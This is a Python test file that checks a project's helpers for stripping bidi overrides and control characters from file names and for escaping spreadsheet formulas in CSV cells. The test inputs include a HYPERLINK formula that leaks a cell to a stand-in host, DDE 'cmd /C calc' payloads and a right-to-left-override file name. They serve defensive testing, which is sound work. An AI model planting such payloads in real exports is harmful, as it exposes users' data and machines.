"""Text safe to show and to open: file names without bidi overrides or control characters, and CSV cells a
spreadsheet will not run. One helper each, and every CSV the project writes goes through the second."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

import camcensus
from camcensus.safetext import csv_cell, csv_writer, display_text

SRC = Path(camcensus.__file__).parent


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("invoice\u202egpj.exe", "invoicegpj.exe"),  # right-to-left override: would show "invoiceexe.jpg"
        ("report\u2066\u2067x\u2069.pdf", "reportx.pdf"),  # isolates
        ("a\u200b\u200c\u200db\ufeff.txt", "ab.txt"),  # zero-width space and joiners, byte order mark
        ("line\nbreak\r\tand\x00nul\x1b[31m.pdf", "line break andnul[31m.pdf"),  # control characters
        ("Ymateb i’r cais – Cyngor.pdf", "Ymateb i’r cais – Cyngor.pdf"),  # ordinary text untouched
        ("تقرير الكاميرات.pdf", "تقرير الكاميرات.pdf"),  # right-to-left script without overrides stays
        (None, ""),
    ],
)
def test_display_text_neutralises_overrides_and_controls(name, shown) -> None:
    assert display_text(name) == shown


@pytest.mark.parametrize(
    "attack",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Hikvision")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_formula_cell_is_written_as_text(attack) -> None:
    buffer = io.StringIO()
    csv_writer(buffer).writerow(["quote", attack])
    cell = next(csv.reader(io.StringIO(buffer.getvalue())))[1]
    assert cell == "'" + attack and not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("value", ["-12", "+44", "3.5", "-0.25", 12, -3, None, True, "Hikvision", "", "a=b"])
def test_numbers_and_plain_text_are_unchanged(value) -> None:
    assert csv_cell(value) == value


def test_every_csv_the_project_writes_goes_through_the_one_helper() -> None:
    writers = re.compile(r"csv\.(?:writer|DictWriter)\(")
    users = sorted(str(p.relative_to(SRC)) for p in SRC.rglob("*.py") if writers.search(p.read_text("utf-8")))
    assert users == ["safetext.py"]
